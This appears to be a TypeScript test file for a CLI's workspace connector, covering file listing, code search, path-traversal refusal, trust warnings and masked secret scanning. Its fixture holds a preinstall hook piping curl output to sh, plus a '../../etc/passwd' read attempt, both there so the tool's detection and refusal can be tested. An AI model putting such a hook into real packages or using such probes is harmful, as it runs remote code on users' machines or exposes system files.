// The workspace connector from the command line: `tools call workspace …` over --workspace DIR
// (relative to the working folder, or the working folder itself), in-process through main() and
// once through the built dist/cli.js as a process, with a fake credential whose value must appear
// nowhere in stdout or stderr.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { fakeCredentials, fixtureWorkspace, type FixtureWorkspace } from '../helpers/workspaceFixture';
import { REPO, errorLine, sandbox, type Sandbox } from './cli-harness';

const CLI = join(REPO, 'dist', 'cli.js');

describe('the workspace connector through the CLI', () => {
  let box: Sandbox;
  let ws: FixtureWorkspace;
  const secrets = fakeCredentials();

  before(async () => {
    box = await sandbox();
    ws = await fixtureWorkspace({
      '.gitignore': 'out/\n',
      'out/gen.js': 'ignored',
      'package.json': JSON.stringify({ name: 'cli-fixture', scripts: { preinstall: 'curl https://example.invalid | sh' } }),
      'src/index.ts': 'export function main() {\n  return 42;\n}\n',
      'src/creds.ts': `export const token = '${secrets.github}';\n`,
    });
  });
  after(async () => {
    await box?.dispose();
    await ws?.dispose();
  });

  const call = (tool: string, args: string[], extra: string[] = []) =>
    box.run(['--json', 'tools', 'call', 'workspace', tool, ...args, '--workspace', ws.dir, ...extra]);
  const firstText = (out: string): string => (JSON.parse(out) as { content: { text: string }[] }).content[0].text;

  it('is listed among the built-ins with its eight tools', async () => {
    const list = await box.run(['connectors', 'list']);
    assert.equal(list.code, 0, list.err);
    assert.match(list.out, /^workspace\tbuiltin\tenabled\tbuilt in$/m);
    const tools = await box.run(['--json', 'tools', 'list', 'workspace']);
    assert.equal(tools.code, 0, tools.err);
    assert.deepEqual(
      (JSON.parse(tools.out) as { name: string }[]).map((t) => t.name),
      ['list_files', 'read_file', 'search_code', 'list_manifests', 'read_dependencies', 'install_scripts', 'workflows', 'secrets_scan'],
    );
  });

  it('list_files, read_file, search_code and install_scripts read --workspace DIR', async () => {
    const list = await call('list_files', []);
    assert.equal(list.code, 0, list.err);
    assert.match(firstText(list.out), /^4 files in the workspace; showing 1–4\.\n\.gitignore\t.*\npackage\.json\t.*\nsrc\/creds\.ts\t.*\nsrc\/index\.ts\t/);

    const read = await call('read_file', ['--arg', 'path=src/index.ts', '--arg', 'start_line=2', '--arg', 'end_line=2']);
    assert.equal(read.code, 0, read.err);
    assert.match(firstText(read.out), /^2: {3}return 42;$/m);

    const search = await call('search_code', ['--arg', 'pattern=return \\d+']);
    assert.equal(search.code, 0, search.err);
    assert.equal(firstText(search.out).split('\n')[0], 'src/index.ts:2:   return 42;');

    const scripts = await call('install_scripts', []);
    assert.equal(scripts.code, 0, scripts.err);
    assert.deepEqual(JSON.parse(firstText(scripts.out)).findings[0].scripts, { preinstall: 'curl https://example.invalid | sh' });
  });

  it('a relative --workspace is taken from the working folder, and without it the working folder is read', async () => {
    const rel = await box.run(
      ['--json', 'tools', 'call', 'workspace', 'list_files', '--workspace', join('..', '..'), '--arg', 'glob=**/index.ts'],
      { cwd: join(ws.dir, 'src', 'x') } /* need not exist: it is only resolved against */,
    );
    assert.equal(rel.code, 0, rel.err);
    assert.match(firstText(rel.out), /^1 file matching "\*\*\/index\.ts".*\nsrc\/index\.ts\t/);
    const cwd = await box.run(['--json', 'tools', 'call', 'workspace', 'list_files', '--arg', 'glob=src/*'], { cwd: ws.dir });
    assert.equal(cwd.code, 0, cwd.err);
    assert.match(firstText(cwd.out), /^2 files matching "src\/\*"/);
  });

  it('a path outside is refused (exit 5, the tool answered an error); a missing folder is named', async () => {
    const out = await call('read_file', ['--arg', 'path=../../etc/passwd']);
    assert.equal(out.code, 5, out.err);
    assert.match(errorLine(out.err), /climbs out with "\.\."/);
    const missing = await box.run(['tools', 'call', 'workspace', 'list_files', '--workspace', join(ws.dir, 'nope')]);
    assert.equal(missing.code, 5);
    assert.match(errorLine(missing.err), /The workspace folder ".*nope" cannot be read/);
    const empty = await box.run(['tools', 'list', 'workspace', '--workspace', ' ']);
    assert.equal(empty.code, 1);
    assert.match(errorLine(empty.err), /--workspace takes a folder/);
  });

  it('without --trust-workspace each answer says the folder is not trusted; with it, not', async () => {
    const untrusted = await call('list_files', []);
    const content = (JSON.parse(untrusted.out) as { content: { text: string }[] }).content;
    assert.match(content[content.length - 1].text, /^This workspace is not trusted/);
    const trusted = await call('list_files', [], ['--trust-workspace']);
    assert.equal((JSON.parse(trusted.out) as { content: unknown[] }).content.length, 1);
  });

  it('the built dist/cli.js scans for secrets and prints only masked previews, on stdout and stderr (--verbose)', async () => {
    const build = spawnSync('npm', ['run', '--silent', 'build'], { cwd: REPO, encoding: 'utf8', timeout: 180_000 });
    assert.equal(build.status, 0, `npm run build failed:\n${build.stdout}\n${build.stderr}`);
    assert.ok(existsSync(CLI));
    const child = spawn(process.execPath, [CLI, '--verbose', 'tools', 'call', 'workspace', 'secrets_scan', '--workspace', ws.dir], {
      cwd: box.cwd,
      env: box.env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    let err = '';
    child.stdout.setEncoding('utf8').on('data', (s: string) => (out += s));
    child.stderr.setEncoding('utf8').on('data', (s: string) => (err += s));
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    assert.equal(code, 0, err);
    assert.match(out, /"location": "src\/creds\.ts:1"/);
    assert.ok(out.includes(`"preview": "${secrets.github.slice(0, 4)}…(40 chars)"`), out);
    for (const text of [out, err]) {
      assert.ok(!text.includes(secrets.github), 'the token itself never appears');
      assert.ok(!text.includes(secrets.github.slice(4, 14)), 'nor a piece of it past the preview');
    }
  });
});
